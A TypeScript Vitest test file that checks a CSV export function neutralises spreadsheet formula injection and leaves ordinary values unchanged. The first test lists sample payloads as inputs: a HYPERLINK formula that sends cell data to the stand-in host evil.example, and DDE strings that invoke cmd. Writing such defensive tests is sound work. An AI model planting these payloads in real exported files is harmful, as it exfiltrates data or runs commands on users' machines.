import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './csv';

describe('CSV export cells', () => {
  it('neutralises what a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
    );
    expect(csvField("+cmd|' /C calc'!A0")).toBe(`'+cmd|' /C calc'!A0`);
    expect(csvField("-1+cmd|' /C calc'!A0")).toBe(`'-1+cmd|' /C calc'!A0`);
    expect(csvField('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
    expect(csvField('\t=1+1')).toBe(`'\t=1+1`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves numbers, ordinary text, JSON and NULL as they are', () => {
    expect(csvLine([-5, '-0.5000', '+1.5', 'email', { a: 1 }, null, true])).toBe(
      '-5,-0.5000,+1.5,email,"{""a"":1}",,true\r\n',
    );
    expect(csvField('a = b')).toBe('a = b');
  });
});
